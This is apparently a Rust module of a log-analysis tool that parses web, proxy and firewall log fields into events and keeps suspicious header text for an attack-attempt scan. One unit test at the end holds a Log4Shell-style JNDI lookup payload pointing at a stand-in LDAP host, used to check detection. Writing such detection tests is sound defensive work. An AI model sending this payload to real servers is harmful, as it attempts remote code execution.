//! An event in the making: values of a line, put where they belong.

use std::net::IpAddr;

use relight_model::{Escape, Event, OrgId, Outcome, Timestamp};

use super::{Feed, time};
use crate::decode::verdict_of;
use crate::prefilter::may_hold_lookup;

/// What a field of a line means.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Slot {
    /// When.
    Time,
    /// A date and a time of day that stand apart, of UTC or of the clock of the feed.
    Date,
    LocalDate,
    Clock,
    /// How far that clock is ahead of UTC.
    Ahead,
    /// Who asked: an address, with or without a port.
    Source,
    SourcePort,
    /// Who connected, which is the source unless it is a trusted proxy.
    Peer,
    /// The header that proxies append addresses to.
    Forwarded,
    /// What was asked: an address, with or without a port.
    Destination,
    Port,
    /// A host name, with or without a port.
    Host,
    Sni,
    Method,
    /// A path alone, a query alone, `/path?query`, `GET /path HTTP/1.1`, or a whole URL.
    Path,
    Query,
    Target,
    Request,
    Url,
    Status,
    BytesOut,
    BytesIn,
    Agent,
    Referer,
    User,
    /// Captured headers: looked through for attempts.
    Headers,
    Ja3,
    Ja4,
    /// `tcp`, `UDP`, `6`.
    Protocol,
    /// What a firewall did: `accept`, `DROP`, `REJECT`.
    Action,
    /// The value must be this one, or the line is another format's.
    Is(&'static str),
    /// The value must be a number of one of these, or the line is another format's.
    OneOf(&'static [&'static str]),
    /// Known, and of no use here.
    Known,
}

/// One name of a field, what it means, and whether a line of the format must have it.
pub(super) type Row = (&'static str, Slot, Need);

/// Whether a line of the format must have a field.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Need {
    /// Without it the line is another format's.
    Must,
    /// It may be absent.
    May,
}

/// See the head of the file.
pub(super) struct Draft<'a> {
    pub(super) event: Event<'a>,
    feed: &'a Feed,
    at: Option<Timestamp>,
    date: &'a str,
    clock: &'a str,
    /// Date and clock are of the clock of the feed, and not of UTC.
    is_local: bool,
    /// How far their clock is ahead, when the line says it.
    ahead: &'a str,
    source: Option<IpAddr>,
    forwarded: &'a str,
}

impl<'a> Draft<'a> {
    pub(super) const fn new(feed: &'a Feed, escape: Escape) -> Self {
        let nobody = IpAddr::V4(std::net::Ipv4Addr::UNSPECIFIED);
        let mut event = Event::bare(OrgId(0), 0, nobody);
        event.escape = escape;
        let (date, clock, ahead, forwarded) = ("", "", "", "");
        Self { event, feed, at: None, date, clock, is_local: false, ahead, source: None, forwarded }
    }

    /// The time, when the line carries it outside its fields.
    pub(super) fn at(&mut self, at: Timestamp) {
        self.at.get_or_insert(at);
    }

    /// Puts a value where it belongs; an absent one (`-`, empty) changes nothing, and the first
    /// of several counts.
    ///
    /// # Errors
    /// A code: the value is not what the slot holds.
    pub(super) fn put(&mut self, slot: Slot, value: &'a str) -> Result<(), &'static str> {
        if let Slot::Is(expected) = slot {
            return if value == expected { Ok(()) } else { Err("format-other") };
        }
        if let Slot::OneOf(expected) = slot {
            return if expected.contains(&value) { Ok(()) } else { Err("format-other") };
        }
        if matches!(value, "" | "-" | "(empty)") {
            return Ok(());
        }
        match slot {
            Slot::Time => {
                let at = time::any(value, self.feed).ok_or("time-invalid")?;
                self.at(at);
            }
            Slot::Date => self.date = value,
            Slot::LocalDate => (self.date, self.is_local) = (value, true),
            Slot::Ahead => self.ahead = value,
            Slot::Clock => self.clock = value,
            Slot::Source | Slot::Peer | Slot::Destination => return self.address(slot, value),
            Slot::Forwarded => self.forwarded = value,
            Slot::Method | Slot::Path | Slot::Query | Slot::Target | Slot::Request | Slot::Url => {
                self.request(slot, value);
            }
            Slot::Host => first(&mut self.event.host, without_port(value)),
            Slot::Headers => self.suspect(value),
            _ => return self.detail(slot, value),
        }
        Ok(())
    }

    /// Who asked is known.
    pub(super) const fn has_source(&self) -> bool {
        self.source.is_some()
    }

    /// A value that has no place: counted, and looked through for attempts.
    pub(super) fn unknown(&mut self, value: &'a str) {
        self.event.unknown += 1;
        self.suspect(value);
    }

    /// The finished event.
    ///
    /// # Errors
    /// A code: the line has no time or no source.
    pub(super) fn finish(mut self) -> Result<Event<'a>, &'static str> {
        let written = || time::date_and_clock(self.date, self.clock);
        let at = self.at.or_else(|| Some(self.utc(written()?)));
        self.event.at = at.ok_or("time-missing")?;
        let source = self.source.ok_or("address-missing")?;
        self.event.source = source;
        if let Some(client) = self.feed.client_behind(source, self.forwarded) {
            (self.event.source, self.event.peer) = (client, Some(source));
        }
        self.event.org = self.feed.org;
        self.event.site = self.feed.site_of(self.event.host, self.event.sni);
        self.event.stray = self.feed.is_stray(self.event.host, self.event.sni);
        first(&mut self.event.host, &self.feed.host);
        if self.event.outcome == Outcome::Unknown {
            self.event.outcome = Outcome::of_status(self.event.status);
        }
        Ok(self.event)
    }

    /// The moment of a date and a clock that were read as if they were UTC.
    fn utc(&self, written: Timestamp) -> Timestamp {
        match time::zone_offset(self.ahead) {
            Some(ahead) => written - ahead,
            None if self.is_local => self.feed.zone.utc(written),
            None => written,
        }
    }

    fn address(&mut self, slot: Slot, value: &str) -> Result<(), &'static str> {
        let (address, port) = endpoint(value).ok_or("address-invalid")?;
        match slot {
            Slot::Destination => {
                self.event.destination.get_or_insert(address);
                set(&mut self.event.port, port);
            }
            Slot::Peer if self.source.is_some() => self.event.peer = Some(address),
            _ => {
                self.source.get_or_insert(address);
                set(&mut self.event.source_port, port);
            }
        }
        Ok(())
    }

    fn request(&mut self, slot: Slot, value: &'a str) {
        match slot {
            Slot::Method => first(&mut self.event.method, value),
            Slot::Query => first(&mut self.event.query, value.strip_prefix('?').unwrap_or(value)),
            Slot::Request => {
                let (method, target) = split_request(value);
                first(&mut self.event.method, method);
                self.request(if target.contains("://") { Slot::Url } else { Slot::Target }, target);
            }
            Slot::Url => {
                let (host, target) = split_url(value);
                first(&mut self.event.host, without_port(host));
                self.request(Slot::Target, target);
            }
            Slot::Target => {
                let (path, query) = value.split_once('?').unwrap_or((value, ""));
                first(&mut self.event.path, path);
                first(&mut self.event.query, query);
            }
            _ => first(&mut self.event.path, value),
        }
    }

    fn detail(&mut self, slot: Slot, value: &'a str) -> Result<(), &'static str> {
        let event = &mut self.event;
        match slot {
            Slot::Sni => first(&mut event.sni, value),
            Slot::Agent => first(&mut event.user_agent, value),
            Slot::Referer => first(&mut event.referer, value),
            Slot::User => first(&mut event.user, value),
            Slot::Ja3 => first(&mut event.ja3, value),
            Slot::Ja4 => first(&mut event.ja4, value),
            Slot::SourcePort => set(&mut event.source_port, port(value)?),
            Slot::Port => set(&mut event.port, port(value)?),
            Slot::Status => event.status = status(value)?,
            Slot::BytesOut => event.bytes_out = number(value, "bytes-invalid")?,
            Slot::BytesIn => event.bytes_in = number(value, "bytes-invalid")?,
            Slot::Protocol => event.protocol = protocol(value),
            Slot::Action => event.outcome = action(value),
            _ => {}
        }
        Ok(())
    }

    /// Of several texts without a place of their own the worst is kept, so that a harmless one
    /// cannot hide another.
    fn suspect(&mut self, value: &'a str) {
        let held = self.event.headers;
        if held.is_empty() {
            if may_hold_lookup(value) {
                self.event.headers = value;
            }
        } else if may_hold_lookup(value)
            && verdict_of(value, self.event.escape) > verdict_of(held, self.event.escape)
        {
            self.event.headers = value;
        }
    }
}

/// The first of several values counts.
fn first<'a>(place: &mut &'a str, value: &'a str) {
    if place.is_empty() {
        *place = value;
    }
}

fn set(place: &mut u16, value: u16) {
    if *place == 0 {
        *place = value;
    }
}

/// `192.0.2.1`, `192.0.2.1:80`, `[2001:db8::1]:80`, `2001:db8::1`, an IPv6 address with a zone.
pub(super) fn endpoint(text: &str) -> Option<(IpAddr, u16)> {
    let address = |text: &str| {
        let (name, zone) = text.split_once('%').unwrap_or((text, ""));
        let text = if zone.is_empty() || !name.contains(':') { text } else { name };
        text.parse::<IpAddr>().ok().map(|address| address.to_canonical())
    };
    if let Some(found) = address(text) {
        return Some((found, 0));
    }
    if let Some(rest) = text.strip_prefix('[') {
        let (inside, after) = rest.split_once(']')?;
        let port = after.strip_prefix(':').and_then(|port| port.parse().ok()).unwrap_or(0);
        return Some((address(inside)?, port));
    }
    let (host, port) = text.rsplit_once(':')?;
    Some((address(host)?, port.parse().ok()?))
}

/// `www.example.test:8443` without its port.
pub(super) fn without_port(host: &str) -> &str {
    match host.rsplit_once(':') {
        Some((name, port))
            if !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit()) =>
        {
            if name.contains(':') && !name.ends_with(']') { host } else { name }
        }
        _ => host,
    }
}

/// `GET /path HTTP/1.1` to method and target. What is not of that form (a TLS handshake, a
/// single dash) is kept whole as the target, so that nothing escapes the attempt scan.
pub(super) fn split_request(request: &str) -> (&str, &str) {
    let target = match request.rsplit_once(' ') {
        Some((head, version)) if version.starts_with("HTTP/") => head,
        _ => request,
    };
    match target.split_once(' ') {
        Some((method, target))
            if !method.is_empty()
                && method.bytes().all(|byte| byte.is_ascii_alphabetic() || byte == b'-') =>
        {
            (method, target)
        }
        _ => ("", dash_is_empty(target)),
    }
}

/// `https://host:443/path?query` to host and target; without scheme it is all target.
fn split_url(url: &str) -> (&str, &str) {
    let Some((scheme, rest)) = url.split_once("://") else { return ("", url) };
    if !scheme.bytes().all(|byte| byte.is_ascii_alphanumeric()) {
        return ("", url);
    }
    let end = rest.find(['/', '?']).unwrap_or(rest.len());
    (&rest[..end], &rest[end..])
}

/// A dash stands for nothing.
pub(crate) fn dash_is_empty(text: &str) -> &str {
    if text == "-" { "" } else { text }
}

fn port(text: &str) -> Result<u16, &'static str> {
    text.parse().map_err(|_| "port-invalid")
}

fn status(text: &str) -> Result<u16, &'static str> {
    match text.parse::<i32>() {
        // HAProxy writes -1 when no answer was sent.
        Ok(-1) => Ok(0),
        Ok(number @ 0..=999) => u16::try_from(number).map_err(|_| "status-invalid"),
        _ => Err("status-invalid"),
    }
}

/// Digits only.
pub(super) fn number(text: &str, code: &'static str) -> Result<u64, &'static str> {
    if text.bytes().all(|byte| byte.is_ascii_digit()) {
        text.parse().map_err(|_| code)
    } else {
        Err(code)
    }
}

/// The number of a protocol of IP; 0 for one that is not known by name.
pub(super) fn protocol(text: &str) -> u8 {
    const NAMES: [(&str, u8); 8] = [
        ("icmp", 1),
        ("tcp", 6),
        ("udp", 17),
        ("gre", 47),
        ("esp", 50),
        ("ipv6-icmp", 58),
        ("icmpv6", 58),
        ("sctp", 132),
    ];
    let named = NAMES.iter().find(|(name, _)| name.eq_ignore_ascii_case(text));
    named.map_or_else(|| text.parse().unwrap_or(0), |(_, number)| *number)
}

/// What a firewall says it did.
pub(super) fn action(text: &str) -> Outcome {
    const WORDS: [(&str, Outcome); 30] = [
        ("alert", Outcome::Served),
        ("reset-both", Outcome::Refused),
        ("reset-client", Outcome::Refused),
        ("reset-server", Outcome::Refused),
        ("accept", Outcome::Served),
        ("accepted", Outcome::Served),
        ("allow", Outcome::Served),
        ("allowed", Outcome::Served),
        ("pass", Outcome::Served),
        ("permit", Outcome::Served),
        ("permitted", Outcome::Served),
        ("close", Outcome::Served),
        ("built", Outcome::Served),
        ("start", Outcome::Served),
        ("end", Outcome::Served),
        ("a", Outcome::Served),
        ("sf", Outcome::Served),
        ("reject", Outcome::Refused),
        ("refused", Outcome::Refused),
        ("server-rst", Outcome::Refused),
        ("rej", Outcome::Refused),
        ("block", Outcome::Dropped),
        ("blocked", Outcome::Dropped),
        ("deny", Outcome::Dropped),
        ("denied", Outcome::Dropped),
        ("drop", Outcome::Dropped),
        ("dropped", Outcome::Dropped),
        ("discard", Outcome::Dropped),
        ("s0", Outcome::Dropped),
        ("d", Outcome::Dropped),
    ];
    let known = WORDS.iter().find(|(word, _)| word.eq_ignore_ascii_case(text));
    known.map_or(Outcome::Unknown, |(_, outcome)| *outcome)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_with_and_without_a_port() {
        let seen = |text| endpoint(text).map(|(address, port)| (address.to_string(), port));
        for (text, address, port) in [
            ("192.0.2.1", "192.0.2.1", 0),
            ("192.0.2.1:8080", "192.0.2.1", 8080),
            ("2001:db8::1", "2001:db8::1", 0),
            ("[2001:db8::1]:443", "2001:db8::1", 443),
            ("[2001:db8::1]", "2001:db8::1", 0),
            ("fe80::1%eth0", "fe80::1", 0),
            ("::ffff:192.0.2.1", "192.0.2.1", 0),
        ] {
            assert_eq!(seen(text), Some((address.to_owned(), port)), "{text}");
        }
        for text in [
            "",
            "host",
            "host:80",
            "192.0.2.1%2C8.8.8.8",
            "192.0.2.1:x",
            "192.0.2.256",
            "[::1",
            ":80",
        ] {
            assert_eq!(seen(text), None, "{text}");
        }
    }

    #[test]
    fn hosts_lose_their_port() {
        for (host, name) in [
            ("a.test:443", "a.test"),
            ("a.test", "a.test"),
            ("[::1]:80", "[::1]"),
            ("2001:db8::1", "2001:db8::1"),
            ("a.test:", "a.test:"),
        ] {
            assert_eq!(without_port(host), name);
        }
    }

    #[test]
    fn urls_and_targets() {
        assert_eq!(split_url("https://a.test:443/x?y"), ("a.test:443", "/x?y"));
        assert_eq!(split_url("https://a.test?y"), ("a.test", "?y"));
        assert_eq!(split_url("/x?u=http://b"), ("", "/x?u=http://b"));
        assert_eq!(split_request("GET /a b HTTP/1.1"), ("GET", "/a b"));
        assert_eq!(split_request("-"), ("", ""));
    }

    #[test]
    fn a_harmless_text_does_not_hide_a_payload() {
        let feed = Feed::default();
        for order in [["${x", "${jndi:ldap://x/a}"], ["${jndi:ldap://x/a}", "${x"]] {
            let mut draft = Draft::new(&feed, Escape::None);
            order.into_iter().for_each(|value| draft.unknown(value));
            assert_eq!(draft.event.headers, "${jndi:ldap://x/a}");
            assert_eq!(draft.event.unknown, 2);
        }
    }
}
